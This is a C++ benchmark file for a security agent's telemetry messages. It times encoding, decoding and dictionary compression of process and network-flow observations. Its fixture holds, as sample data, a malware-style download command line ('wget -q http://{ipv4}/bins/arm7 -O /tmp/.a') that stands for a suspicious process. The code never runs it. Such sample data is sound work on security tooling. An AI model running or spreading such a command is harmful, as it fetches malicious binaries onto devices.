#include <benchmark/benchmark.h>

#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "agent_core/base/check.h"
#include "agent_core/message/compression.h"
#include "agent_core/message/message.h"

// Cost of one observation in a message of 64: rates are observations per second, so 1e9 / rate is the
// time for one. The label gives the bytes an observation takes on the wire.

namespace picket {
namespace {

enum Content : std::int64_t { kProcesses = 0, kFlows = 1, kMixed = 2 };

struct Fixture {
  TextTable texts;
  std::vector<Observation> observations;
  AgentIdentity identity;
  SecurityMessage message;

  /// `number` makes another message of the same kind: other remote addresses, process ids and times.
  Fixture(std::int64_t content, std::size_t count, bool extended, std::uint32_t number = 0) {
    const Text program = texts.intern("/usr/bin/python3");
    const Text commandline = texts.intern("/usr/bin/python3 /opt/gateway/collect.py --site 7");
    texts.set_executable(commandline, program);
    const Text download = texts.intern_template("wget -q http://{ipv4}/bins/arm7 -O /tmp/.a");
    const Text wget = texts.intern("/usr/bin/wget");
    texts.set_executable(download, wget);
    texts.freeze();
    const Time start = Time::from_unix_seconds(1'700'000'000) + Duration::hours(number);
    for (std::uint32_t i = 0; i < count; ++i) {
      Observation o;
      const bool rare = i % 8 == 7;
      Text text = rare ? download : commandline;
      if (rare) text.parameter = 0xc0000200U + i + 7 * number;
      if (content == kFlows || (content == kMixed && i % 2 == 0)) {
        NetworkRecord flow;
        flow.local_address = IpAddress::v4(0x0a000105);
        flow.remote_address = IpAddress::v4(0x34c80000U + (i + 64 * number) * 2654435761U % 65'536);
        flow.local_port = static_cast<std::uint16_t>(32'768 + i);
        flow.remote_port = 443;
        flow.bytes_in = 5'200 + i;
        flow.bytes_out = 900;
        flow.user_id = 1000;
        flow.commandline = text;
        o.record = flow;
      } else {
        o.record = ProcessRecord{text, rare ? wget : program, 4'000 + i + 99 * number, 1, 1000, ProcessOperation::kExec};
      }
      o.hit_count = 1 + i % 5;
      o.aggregated = true;
      o.window_start = start;
      o.first_time = start + Duration::seconds(10 * i % 3'000);
      o.last_time = o.first_time + Duration::seconds(300);
      o.window_end = start + Duration::hours(1);
      observations.push_back(o);
    }
    identity.module_name = "DefenderIotMicroAgent";
    identity.agent_version = "4.6.2";
    identity.id_seed = {1, 2};
    message.sequence = number;
    identity.extended = extended;
    message.created = start + Duration::hours(1);
    message.collection_interval = Duration::hours(1);
    message.observations = observations;
  }
};

struct Shape {
  Encoding encoding;
  bool extended;
  Content content;
  std::size_t observations;
};

void report(benchmark::State& state, const Fixture& fixture, Encoding encoding) {
  state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(fixture.observations.size()));
  const std::size_t size = encoded_size(encoding, fixture.identity, fixture.message, fixture.texts);
  state.counters["wire_bytes_per_observation"] =
      static_cast<double>(size) / static_cast<double>(fixture.observations.size());
}

void encoded_size_of(benchmark::State& state, const Shape& shape) {
  const Encoding encoding = shape.encoding;
  const Fixture fixture(shape.content, shape.observations, shape.extended);
  std::size_t size = 0;
  for (auto _ : state) {
    size = encoded_size(encoding, fixture.identity, fixture.message, fixture.texts);
    benchmark::DoNotOptimize(size);
  }
  std::string bytes;
  encode(encoding, fixture.identity, fixture.message, fixture.texts, bytes);
  PICKET_CHECK(size == bytes.size(), "size", size, "bytes", bytes.size());
  report(state, fixture, encoding);
}

void encode_of(benchmark::State& state, const Shape& shape) {
  const Encoding encoding = shape.encoding;
  const Fixture fixture(shape.content, shape.observations, shape.extended);
  std::string bytes;
  for (auto _ : state) {
    bytes.clear();
    encode(encoding, fixture.identity, fixture.message, fixture.texts, bytes);
    benchmark::DoNotOptimize(bytes.data());
  }
  PICKET_CHECK(bytes.size() == encoded_size(encoding, fixture.identity, fixture.message, fixture.texts));
  report(state, fixture, encoding);
}

void decode_of(benchmark::State& state, const Shape& shape) {
  const Encoding encoding = shape.encoding;
  const Fixture fixture(shape.content, shape.observations, shape.extended);
  std::string bytes;
  encode(encoding, fixture.identity, fixture.message, fixture.texts, bytes);
  TextTable overlay(1U << 16, &fixture.texts);
  DecodedMessage decoded;
  std::size_t observations = 0;
  for (auto _ : state) {
    const auto result = decode(encoding, bytes, {}, overlay, decoded);
    PICKET_CHECK(result.ok());
    observations = result.value();
  }
  PICKET_CHECK(observations == fixture.observations.size(), "observations", observations);
  report(state, fixture, encoding);
}

std::string encoded(Encoding encoding, Content content, std::size_t count, std::uint32_t number) {
  const Fixture fixture(content, count, false, number);
  std::string bytes;
  encode(encoding, fixture.identity, fixture.message, fixture.texts, bytes);
  return bytes;
}

/// A dictionary from 400 other messages of 2 to 129 observations of the same kind.
CompressionDictionary dictionary_of(const Shape& shape, std::size_t bytes) {
  std::vector<std::string> samples;
  for (std::uint32_t number = 1; number <= 400; ++number) {
    samples.push_back(encoded(shape.encoding, shape.content, 2 + number % 128, number));
  }
  auto trained = CompressionDictionary::train(samples, bytes);
  PICKET_CHECK(trained.ok());
  return std::move(trained).value();
}

/// Rates are bytes before compression; the ratio is bytes before to bytes after, of a message that the
/// dictionary was not trained on.
void compression_of(benchmark::State& state, const Shape& shape, std::size_t dictionary_bytes, bool back) {
  const std::string plain = encoded(shape.encoding, shape.content, shape.observations, 1'000);
  std::optional<CompressionDictionary> dictionary;
  if (dictionary_bytes != 0) dictionary = dictionary_of(shape, dictionary_bytes);
  const CompressionDictionary* with = dictionary ? &*dictionary : nullptr;
  Compressor compressor;
  Decompressor decompressor;
  std::string packed;
  compressor.compress(plain, with, packed);
  std::string out;
  for (auto _ : state) {
    if (back) {
      PICKET_CHECK(decompressor.decompress(packed, with, 262'144, out).ok());
    } else {
      out.clear();
      compressor.compress(plain, with, out);
    }
    benchmark::DoNotOptimize(out.data());
  }
  PICKET_CHECK(out == (back ? plain : packed));
  state.SetBytesProcessed(state.iterations() * static_cast<std::int64_t>(plain.size()));
  state.counters["plain_bytes"] = static_cast<double>(plain.size());
  state.counters["ratio"] = static_cast<double>(plain.size()) / static_cast<double>(packed.size());
}

void register_compression() {
  struct Dictionary {
    const char* name;
    std::size_t bytes;
  };
  for (const Encoding encoding : {Encoding::kG1Json, Encoding::kG2FlatBuffers}) {
    for (const std::size_t observations : {2, 16, 64, 256}) {
      for (const auto& [name, bytes] : {Dictionary{"alone", 0}, Dictionary{"dictionary_4k", 4'096},
                                        Dictionary{"dictionary_16k", 16'384}, Dictionary{"dictionary_64k", 65'536}}) {
        for (const bool back : {false, true}) {
          const std::string count = observations == 2 ? "small" : std::to_string(observations);
          const std::string title = std::string(back ? "decompress/" : "compress/") + std::string(to_string(encoding)) +
                                    "/mixed/" + name + "/" + count;
          const Shape shape{encoding, false, kMixed, observations};
          benchmark::RegisterBenchmark(title.c_str(), [shape, size = bytes, back](benchmark::State& state) {
            compression_of(state, shape, size, back);
          });
        }
      }
    }
  }
}

void register_all() {
  register_compression();

  struct Wire {
    const char* name;
    Encoding encoding;
    bool extended;
  };
  struct Kind {
    const char* name;
    Content content;
  };
  for (const Wire& wire : {Wire{"g1_json", Encoding::kG1Json, false}, Wire{"g2", Encoding::kG2FlatBuffers, false},
                           Wire{"g2_extended", Encoding::kG2FlatBuffers, true}}) {
    for (const Kind& kind : {Kind{"processes", kProcesses}, Kind{"flows", kFlows}, Kind{"mixed", kMixed}}) {
      const auto add = [&](const char* what, auto function) {
        for (const auto& [suffix, observations] : {std::pair{"/64", 64}, std::pair{"/small", 2}}) {
          const std::string name = std::string(what) + "/" + wire.name + "/" + kind.name + suffix;
          const Shape shape{wire.encoding, wire.extended, kind.content, static_cast<std::size_t>(observations)};
          benchmark::RegisterBenchmark(name.c_str(), [=](benchmark::State& state) { function(state, shape); });
        }
      };
      add("encoded_size", encoded_size_of);
      add("encode", encode_of);
      add("decode", decode_of);
    }
  }
}

[[maybe_unused]] const bool kRegistered = (register_all(), true);

}  // namespace
}  // namespace picket
